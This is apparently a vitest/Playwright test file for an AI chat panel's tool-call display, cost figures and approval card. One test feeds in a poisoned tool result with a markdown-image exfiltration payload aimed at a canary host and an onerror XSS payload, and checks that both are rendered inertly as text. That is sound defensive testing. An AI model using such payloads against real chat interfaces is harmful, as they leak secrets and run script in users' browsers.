import { describe, expect, test } from "vitest";
import type { ToolQuestion } from "../../../src/shared/toolQuestion.ts";
import type { ToolMessage, ToolRun, ToolRunStatus } from "../../../src/shared/toolMessage.ts";
import { answer, question, shown, snapshot, stateOf } from "./conversations.ts";
import { frame, panelSuite, said, violations } from "./panelSuite.ts";
import { themes } from "./themes.ts";

const open = panelSuite();
const picture = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function run(name: string, status: ToolRunStatus, change: Partial<ToolRun> = {}): ToolRun {
  const call = {
    id: `call_${name}_${status}`,
    type: "function",
    function: { name, arguments: '{"path":"src/heap.ts","startLine":1}' },
  } as const;
  return { call, status, text: "", images: [], ...change };
}

function tools(...runs: readonly ToolRun[]): ToolMessage {
  return { role: "tool", id: "t1", parentId: "m1", createdAt: 1, runs };
}

const every = tools(
  run("aside_readFile", "done", { text: "src/heap.ts, lines 1 to 40 of 40:\nexport function siftDown(): void {}", ms: 124 }),
  run("mcp_browser_a_tool_with_a_very_long_name", "done", { text: "x".repeat(4321), ms: 12_345, images: [picture] }),
  run("neighbour_add", "running"),
  run("neighbour_note", "waiting"),
  run("neighbour_fail", "failed", { text: "The tool failed: out of sugar", ms: 3 }),
  run("no_such_tool", "invalid", { text: 'There is no tool "no_such_tool".' }),
  run("neighbour_hang", "cancelled", { text: "Cancelled: the user stopped it.", ms: 60_000 }),
  run("neighbour_write", "refused", { text: "The user refused this call." }),
);
const talk = [
  question("q1", "What is in heap.ts?"),
  answer("m1", "Let me look.", { toolCalls: every.runs.map(({ call }) => call) }),
  every,
];

describe("a round of tools", () => {
  test("shows the outcome of each call, and expands to arguments and result as plain text", async () => {
    const panel = await open();
    const poisoned = tools(
      run("fetch", "done", { text: "![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>", ms: 5 }),
    );
    await panel.send(snapshot([question("q1", "?"), answer("m1", "Let me look."), poisoned, { ...answer("m2", "Done."), parentId: "t1" }]));
    const toggle = panel.page.getByRole("button", { name: /^Fetch/ });
    expect(await toggle.innerText()).toMatch(/Fetch\s*done · 5 ms · \d+ characters/);
    await toggle.focus();
    await panel.page.keyboard.press("Enter");
    const details = panel.page.getByRole("region", { name: "Details for fetch" });
    expect(await details.innerText()).toContain("![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>");
    expect(await details.locator("img").count()).toBe(0);
    expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
  });

  test("shows only images whose data is included", async () => {
    const panel = await open();
    const images = [picture, "https://canary.example.invalid/p.png", "data:image/svg+xml;base64,PHN2Zy8+"];
    await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("show", "done", { images, ms: 1 }))]));
    await panel.page.getByRole("button", { name: /^Show/ }).click();
    await panel.page.getByRole("img", { name: "Result image 1" }).waitFor();
    expect(await panel.page.locator(".tool-body img").count()).toBe(1);
  });

  test("offers Continue when no call is running, but not while one is", async () => {
    const panel = await open();
    await panel.send(snapshot(talk, stateOf({ answering: "t1" })));
    expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
    await panel.send({ type: "state", state: stateOf() });
    await panel.page.getByRole("button", { name: "Continue" }).click();
    expect(await said(panel, "continueAnswer")).toEqual([{ type: "continueAnswer", messageId: "t1", request: 1 }]);
  });

  test("updates with its runs without collapsing open ones", async () => {
    const panel = await open();
    await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("add", "running"))], stateOf({ answering: "t1" })));
    await panel.page.getByRole("button", { name: /^Add/ }).click();
    await panel.send({
      type: "message",
      conversationId: "c1",
      shown: shown(tools(run("add", "running", { status: "done", text: "42", ms: 7 }))),
    });
    expect(await panel.page.getByRole("region", { name: "Details for add" }).innerText()).toContain("42");
    expect(await panel.page.getByRole("button", { name: /^Add/ }).innerText()).toContain("done");
  });

  test("the composer's button shows how many are on, and why none can be used", async () => {
    const panel = await open();
    await panel.send(snapshot([], stateOf({ tools: { on: 3, unusable: null, allowed: [] } })));
    await panel.page.getByRole("button", { name: "Tools: 3 on" }).click();
    expect(await said(panel, "selectTools")).toEqual([{ type: "selectTools" }]);
    await panel.send({ type: "state", state: stateOf({ tools: { on: 0, unusable: "Tools are off in Restricted Mode.", allowed: [] } }) });
    expect(await panel.page.getByRole("button", { name: "Tools", exact: true }).getAttribute("aria-description")).toBe(
      "Tools are off in Restricted Mode.",
    );
  });

  test.each(themes)("axe finds no problems in $name, at 170 to 900 px", async (theme) => {
    const panel = await open({ theme, width: 300, height: 900 });
    await panel.send(snapshot(talk));
    await panel.page.getByRole("button", { name: /^Read file/ }).click();
    expect(await violations(panel)).toEqual([]);
    await panel.page.screenshot({ path: `.cache/tools-${theme.name.replaceAll(/\W+/g, "-")}.png` });
    for (const width of [170, 900]) {
      await panel.page.setViewportSize({ width, height: 900 });
      await frame(panel);
      const wide = await panel.page.evaluate(() => document.querySelector(".scroller")?.scrollWidth ?? 0);
      expect(wide).toBeLessThanOrEqual(width);
    }
  });
});

describe("the figures of a turn with tools", () => {
  const usage = { prompt_tokens: 100, completion_tokens: 20 };
  const turn = [
    question("q1", "What is in heap.ts?"),
    answer("m1", "Let me look.", { cost: 0.001, usage, toolCalls: [run("aside_readFile", "done").call] }),
    tools(run("aside_readFile", "done", { text: "x", ms: 5 })),
    answer("m2", "A heap.", { parentId: "t1", cost: 0.0024, usage }),
  ];

  test("are under its last answer alone, with the sum; the tooltip tells of each request", async () => {
    const panel = await open();
    await panel.send(snapshot(turn));
    const figures = panel.page.getByRole("group", { name: "Answer statistics" });
    await figures.getByText("$0.0034", { exact: true }).waitFor();
    expect(await figures.count()).toBe(1);
    const line = figures.getByRole("button");
    expect(await line.innerText()).toMatch(/^\$0\.0034\s*240 tokens$/);
    expect(await line.getAttribute("title")).toBe("$0.0034 · 2 requests: $0.001 + $0.0024 · 240 tokens · 200 in · 40 out");
    const rest = figures.getByText("200 in");
    expect((await rest.boundingBox())?.width).toBeGreaterThan(20);
    const isShown = () => rest.evaluate((element) => element.closest(".visually-hidden") === null);
    expect(await isShown()).toBe(false);
    await line.click();
    expect([await line.getAttribute("aria-expanded"), await isShown()]).toEqual(["true", true]);
    expect(await violations(panel)).toEqual([]);
  });

  test("are above the tools where the turn was stopped at them", async () => {
    const panel = await open();
    await panel.send(snapshot(turn.slice(0, 3), stateOf({ answering: "m1" })));
    await panel.page.getByText("Read file").waitFor();
    const figures = panel.page.getByRole("group", { name: "Answer statistics" });
    expect(await figures.count()).toBe(0);
    await panel.send({ type: "state", state: stateOf() });
    await figures.getByText("$0.001", { exact: true }).waitFor();
  });
});

describe("the host's question about a call", () => {
  const waiting = tools(run("neighbour_add", "done", { text: "3", ms: 4 }), run("mcp_files_write", "waiting"));
  const asking = snapshot([question("q1", "?"), answer("m1", "Let me look."), waiting], stateOf({ answering: "t1" }));
  const shownQuestion: ToolQuestion = {
    token: "token-1",
    hash: "hash-1",
    messageId: "t1",
    at: 1,
    title: "Files write",
    tool: "mcp_files_write",
    description: "Writes a file in the workspace.",
    arguments: JSON.stringify({ path: "src/heap.ts", text: "export function siftDown(): void {}\n".repeat(30) }, undefined, 2),
    warnings: ["Check carefully: \u0440aypal contains look-alike characters."],
    asksTwice: true,
  };
  const asked = { type: "toolQuestion", conversationId: "c1", question: shownQuestion } as const;
  const gone = { type: "toolQuestion", conversationId: "c1", question: null } as const;
  const isReady = { type: "toolQuestionReady", token: "token-1" } as const;
  const ready = '.tool-question button[aria-disabled="false"]';

  test("stands below its call with all that there is to judge, is announced once and takes no focus", async () => {
    const panel = await open();
    // In either order: what comes first waits for the other.
    await panel.send(asked);
    await panel.send(asking);
    const card = panel.page.locator("[data-tool=mcp_files_write]").getByRole("group", { name: "Allow the model to run “Files write”?" });
    await card.waitFor();
    const text = await card.innerText();
    for (const part of [
      "mcp_files_write",
      shownQuestion.description,
      shownQuestion.warnings[0] ?? "",
      "VS Code also asks before it runs MCP tools",
    ])
      expect(text).toContain(part);
    expect(await card.getByRole("region", { name: "Arguments" }).innerText()).toBe(shownQuestion.arguments);
    expect(await panel.page.locator("[data-tool=mcp_files_write] .tool-toggle").innerText()).toContain("waiting for your answer");
    expect(await panel.page.getByRole("status").innerText()).toBe(
      "The model wants to run the tool Files write. Control+Shift+A goes to the question.",
    );
    await panel.send({ ...asked, question: { ...shownQuestion, token: "token-2" } });
    expect(await panel.page.locator("[role=status] span").count()).toBe(1);
    expect(await card.evaluate((box) => box.contains(document.activeElement))).toBe(false);
    await panel.send(gone);
    expect(await card.count()).toBe(0);
  });

  test("of another conversation is not shown", async () => {
    const panel = await open();
    await panel.send(asking);
    await panel.send(asked);
    await panel.page.locator(".tool-question").waitFor();
    await panel.send(snapshot([question("q1", "?"), answer("m1", ""), { ...waiting, parentId: "m1" }], stateOf(), "c2"));
    expect(await panel.page.locator(".tool-question").count()).toBe(0);
  });

  test.each([
    ["Allow once", "once"],
    ["Allow this tool in this conversation", "conversation"],
    ["Deny", "refuse"],
  ] as const)("%s is told with token and hash, once its buttons have been in view", async (name, given) => {
    const panel = await open();
    await panel.send(asking);
    await panel.send(asked);
    await expect.poll(() => said(panel, "toolQuestionShown")).toEqual([{ type: "toolQuestionShown", token: "token-1" }]);
    expect(await panel.page.locator(ready).count()).toBe(0);
    await panel.send({ ...isReady, token: "another" });
    expect(await panel.page.locator(ready).count()).toBe(0);
    await panel.send(isReady);
    await panel.page.getByRole("button", { name, exact: true }).click();
    expect(await said(panel, "answerTool")).toEqual([{ type: "answerTool", token: "token-1", hash: "hash-1", answer: given }]);
  });

  test("a press as it comes up does not count, and one key and Tab lead to it and back to its call", async () => {
    const panel = await open();
    await panel.send(asking);
    await panel.send(asked);
    await panel.page.getByRole("button", { name: "Allow once" }).click({ force: true, noWaitAfter: true });
    expect(await said(panel, "answerTool")).toEqual([]);
    await panel.send({ type: "transcript", action: "toolQuestion" });
    await frame(panel);
    const focused = () => panel.page.evaluate(() => document.activeElement?.className ?? "");
    expect(await focused()).toBe("tool-question");
    await panel.page.keyboard.press("Enter");
    await panel.page.keyboard.press("Tab");
    await panel.page.keyboard.press("Tab");
    await panel.page.keyboard.press("Enter");
    expect(await said(panel, "answerTool")).toEqual([]);
    await panel.send(isReady);
    await panel.page.keyboard.press("Enter");
    expect(await said(panel, "answerTool")).toHaveLength(1);
    await panel.send(gone);
    expect(await focused()).toBe("tool-toggle");
  });

  test("a tool that was allowed says so, and can be asked about again", async () => {
    const panel = await open();
    await panel.send(
      snapshot([question("q1", "?"), answer("m1", ""), waiting], stateOf({ tools: { on: 2, unusable: null, allowed: ["neighbour_add"] } })),
    );
    const toggle = panel.page.getByRole("button", { name: /^Neighbour add/ });
    expect(await toggle.innerText()).toContain("allowed in this conversation");
    await toggle.click();
    await panel.page.getByRole("button", { name: "Ask again" }).click();
    expect(await said(panel, "askAgain")).toEqual([{ type: "askAgain", tool: "neighbour_add" }]);
  });

  test.each(themes)("axe finds no problems in $name, at 170 to 900 px", async (theme) => {
    const panel = await open({ theme, width: 300, height: 900 });
    await panel.send(asking);
    await panel.send(asked);
    await panel.send(isReady);
    await panel.page.locator(ready).first().waitFor();
    expect(await violations(panel)).toEqual([]);
    for (const width of [300, 900, 170]) {
      await panel.page.setViewportSize({ width, height: 900 });
      await frame(panel);
      await panel.page.screenshot({ path: `.cache/tool-question-${theme.name.replaceAll(/\W+/g, "-")}-${width}.png` });
      const wide = await panel.page.evaluate(() => document.querySelector(".scroller")?.scrollWidth ?? 0);
      expect(wide).toBeLessThanOrEqual(width);
    }
  });
});
